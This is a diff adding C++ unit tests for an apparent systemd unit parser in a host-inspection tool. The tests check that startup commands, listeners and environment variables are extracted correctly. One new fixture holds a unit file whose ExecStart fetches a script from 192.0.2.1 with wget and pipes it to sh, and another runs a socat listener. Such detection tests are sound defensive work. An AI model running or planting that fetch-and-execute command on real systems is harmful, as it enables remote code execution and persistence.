@@ -20,9 +20,12 @@ TEST(SystemdUnitsTest, TellsWhatAServiceRuns) {
           "preload /opt/demo/hook.so source=systemd",
           "startup /bin/mkdir -p /run/demo kind=systemd "
           "runlevel=multi-user.target user=demo action=ExecStartPre",
+          "command /bin/mkdir -p /run/demo program=mkdir within=systemd",
           "startup /usr/bin/socat socat TCP-LISTEN:7000,fork EXEC:/bin/cat "
           "kind=systemd runlevel=multi-user.target user=demo "
           "action=ExecStart",
+          "command /usr/bin/socat socat TCP-LISTEN:7000,fork EXEC:/bin/cat "
+          "program=socat within=systemd",
           "listener 7000 protocol=tcp program=socat source=systemd"}));
 }
 
@@ -47,6 +50,20 @@ TEST(SystemdUnitsTest, TellsWhenATimerFires) {
                     "source=systemd"});
 }
 
+// systemd.exec(5): Environment=; systemd.service(5): "$$" is one "$".
+TEST(SystemdUnitsTest, FoldsTheEnvironment) {
+  const auto seen = Examine(
+      kSystemdUnits, "lib/systemd/system/x.service",
+      "[Service]\nStandardInput=socket\nEnvironment=FROM=http://192.0.2.1/ "
+      "\"NAME=a b\"\nExecStart=-/bin/sh -c 'wget -qO- $${FROM}x | sh'\n"
+      "ExecStop=/bin/x ${NAME} $OTHER\n");
+  EXPECT_EQ(seen.facts[0].Attribute("input"), "socket");
+  EXPECT_EQ(
+      seen.Values("command"),
+      (Strings{"/bin/sh -c wget -qO- ${FROM}x | sh",
+               "wget -qO- http://192.0.2.1/x", "sh", "/bin/x a b $OTHER"}));
+}
+
 TEST(SystemdUnitsTest, ReadsDropInsAndAutostart) {
   EXPECT_EQ(Examine(kSystemdUnits, "ssh.service.d/override.conf",
                     "[Service]\nExecStart=/bin/x\n")
@@ -55,7 +72,8 @@ TEST(SystemdUnitsTest, ReadsDropInsAndAutostart) {
   EXPECT_EQ(Examine(kSystemdUnits, "etc/xdg/autostart/x.desktop",
                     "[Desktop Entry]\nExec=/bin/y %u\n")
                 .Lines(),
-            Strings{"startup /bin/y %u kind=desktop action=Exec"});
+            (Strings{"startup /bin/y %u kind=desktop action=Exec",
+                     "command /bin/y %u program=y within=desktop"}));
 }
 
 TEST(SystemdUnitsTest, PassesOverEverythingElse) {
